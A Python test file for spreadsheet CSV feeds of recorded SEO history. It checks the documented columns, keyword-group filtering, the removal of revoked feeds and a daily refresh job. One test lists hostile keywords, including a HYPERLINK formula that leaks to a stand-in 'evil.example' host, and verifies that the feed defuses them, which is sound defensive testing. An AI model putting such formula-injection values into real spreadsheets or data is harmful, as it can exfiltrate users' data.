"""Spreadsheet feeds (SQLite and PostgreSQL): each live feed's file holds exactly the recorded history in
the documented columns, without a header row; a revoked feed's file is removed at the next refresh; the
daily job (``python -m store snapshot``) rewrites the files with the day it recorded."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from client.settings import key_fingerprint
from sandbox import DEMO_KEY
from services.reports.feeds import (
    FEEDS_DIR_ENV,
    KEYWORD_COLUMNS,
    SITE_COLUMNS,
    feed_url,
    importdata_formula,
    refresh_feeds,
)
from store import HistoryStore
from tests.store.commands import StoreCommand
from tests.store.samples import ACCOUNT, lookup, tracked

DAY = date(2026, 10, 5)
NOW = datetime(2026, 10, 7, 6, 0, tzinfo=UTC)


def _lines(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_a_site_feed_holds_the_recorded_days_in_the_documented_columns(
    store: HistoryStore, tmp_path: Path
) -> None:
    tmp_path = tmp_path / "feeds"  # beside the test's database, which a refresh must leave alone
    for offset, dr in enumerate((41, 42, 44)):
        store.snapshots.record_lookup(
            ACCOUNT, lookup("example.com", dr=dr, traffic=1000 + offset), DAY + timedelta(offset), "job"
        )
    store.snapshots.record_lookup(
        ACCOUNT, lookup("stripe.com", dr=90), DAY, "job"
    )  # another domain: not in the feed
    feed = store.feeds.create_feed(ACCOUNT, "Example.com", "ann@team.example")

    done = refresh_feeds(store, tmp_path, now=NOW)

    assert (done.written, done.removed, done.failures) == (1, 0, [])
    documented = (
        "day site dr true_dr trust_score traffic referring_domains backlinks visibility share_of_voice"
    )
    assert documented.split() == list(SITE_COLUMNS)
    # No watched keyword has a top 10 recorded: the visibility fields are empty, never 0.
    assert _lines(tmp_path / f"{feed.token}.csv") == [  # no header: the first line is data
        ["2026-10-05", "example.com", "41", "36", "70", "1000", "5000", "90000", "", ""],
        ["2026-10-06", "example.com", "42", "37", "70", "1001", "5000", "90000", "", ""],
        ["2026-10-07", "example.com", "44", "39", "70", "1002", "5000", "90000", "", ""],
    ]
    (listed,) = store.feeds.entries(ACCOUNT, "example.com")
    assert listed.refreshed_at == NOW


def test_a_keyword_group_feed_holds_the_groups_keywords_only(store: HistoryStore, tmp_path: Path) -> None:
    tmp_path = tmp_path / "feeds"  # beside the test's database, which a refresh must leave alone
    positions = {"crm software": 7, "email marketing": 15, "example crm login": 2}
    store.snapshots.record_tracked(ACCOUNT, tracked("example-com", positions), DAY, "job")
    store.groups.set_keyword_tags(ACCOUNT, "crm software", ["crm"])
    store.groups.set_keyword_tags(ACCOUNT, "example crm login", ["crm"])
    tagged = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example", keyword_group="crm")
    brand = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example", keyword_group="brand")

    refresh_feeds(store, tmp_path, now=NOW)

    assert KEYWORD_COLUMNS == ("day", "site", "keyword", "position", "search_volume")
    assert _lines(tmp_path / f"{tagged.token}.csv") == [
        ["2026-10-05", "example.com", "crm software", "7", "9000"],
        ["2026-10-05", "example.com", "example crm login", "2", "9000"],
    ]
    assert _lines(tmp_path / f"{brand.token}.csv") == [
        ["2026-10-05", "example.com", "example crm login", "2", "9000"]
    ]


#: Tracked keywords anyone with the API key can add, each of which a spreadsheet would run as a formula
#: (a keyword's leading tab or carriage return is trimmed when it is recorded; the unit tests cover those).
HOSTILE_KEYWORDS = ('=HYPERLINK("http://evil.example/?leak","click")', "+1+2", "-1+2", "@SUM(1,2)")


def test_a_feed_defuses_hostile_keywords_and_keeps_its_numbers_numbers(
    store: HistoryStore, tmp_path: Path
) -> None:
    tmp_path = tmp_path / "feeds"
    positions: dict[str, int | None] = {keyword: 3 + i for i, keyword in enumerate(HOSTILE_KEYWORDS)}
    store.snapshots.record_tracked(ACCOUNT, tracked("example-com", positions), DAY, "job")
    store.snapshots.record_lookup(ACCOUNT, lookup("example.com", dr=41), DAY, "job")
    everything = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example", keyword_group="all")
    site = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example")

    refresh_feeds(store, tmp_path, now=NOW)

    lines = _lines(tmp_path / everything.file_name)
    stored = sorted(store.queries.keyword_history(ACCOUNT, "example-com")["keyword"])
    assert [line[2] for line in lines] == ["'" + keyword for keyword in stored]  # each defused, once
    assert len(stored) == len(HOSTILE_KEYWORDS)
    for line in lines:
        assert not line[2].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert int(line[3]) >= 3 and int(line[4]) == 9000  # position and volume: plain numbers
    (day_line,) = _lines(tmp_path / site.file_name)
    assert [float(value) for value in day_line[2:8]] == [41, 36, 70, 1_000_000, 5000, 90000]


def test_a_revoked_feeds_file_is_removed_and_so_is_any_stray_file(
    store: HistoryStore, tmp_path: Path
) -> None:
    tmp_path = tmp_path / "feeds"  # beside the test's database, which a refresh must leave alone
    store.snapshots.record_lookup(ACCOUNT, lookup("example.com"), DAY, "job")
    kept = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example")
    gone = store.feeds.create_feed(ACCOUNT, "example.com", "ann@team.example")
    refresh_feeds(store, tmp_path, now=NOW)
    assert {p.name for p in tmp_path.iterdir()} == {kept.file_name, gone.file_name}
    assert kept.token != gone.token and len(kept.token) >= 40

    assert store.feeds.revoke_feed(ACCOUNT, gone.id, "bob@team.example") is True
    assert store.feeds.revoke_feed(ACCOUNT, gone.id, "bob@team.example") is False
    (tmp_path / "Left-over_file-from-an-old-feed.csv").write_text("old")
    (tmp_path / "notes.txt").write_text("not a feed: left alone")
    done = refresh_feeds(store, tmp_path, now=NOW)

    assert (done.written, done.removed) == (1, 2)
    assert {p.name for p in tmp_path.iterdir()} == {kept.file_name, "notes.txt"}
    revoked = next(feed for feed in store.feeds.entries(ACCOUNT) if feed.id == gone.id)
    assert (revoked.live, revoked.revoked_by) == (False, "bob@team.example")


def test_a_feeds_address_and_formula() -> None:
    class Named:
        file_name = "abc.csv"

    url = feed_url("https://dash.example.com/", Named())  # type: ignore[arg-type]
    assert url == "https://dash.example.com/app/static/feeds/abc.csv"
    assert importdata_formula(url) == '=IMPORTDATA("https://dash.example.com/app/static/feeds/abc.csv")'


@pytest.mark.parametrize("database_kind", ["sqlite"], indirect=True)
def test_the_daily_job_refreshes_the_feeds(
    store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_command: StoreCommand
) -> None:
    account = key_fingerprint(DEMO_KEY)
    folder = tmp_path / "feeds"
    with HistoryStore.open(store_url) as store:
        feed = store.feeds.create_feed(account, "example.com", "ann@team.example")
        revoked = store.feeds.create_feed(account, "example.com", "ann@team.example")
        store.feeds.revoke_feed(account, revoked.id, "ann@team.example")
    folder.mkdir()
    (folder / revoked.file_name).write_text("what the feed said before it was revoked")
    monkeypatch.setenv(FEEDS_DIR_ENV, str(folder))

    code, _, err = demo_command("snapshot", "--database-url", store_url, "--as-of", "2025-01-06")
    assert code == 0, err
    assert "feeds: 1 written, 1 removed" in err
    assert not (folder / revoked.file_name).exists()
    with HistoryStore.open(store_url) as store:
        recorded = store.queries.domain_history(account, ["example.com"])
    (line,) = [row for row in _lines(folder / feed.file_name) if row[0] == "2025-01-06"]
    assert line[:3] == ["2025-01-06", "example.com", str(recorded["dr"].iloc[-1])]
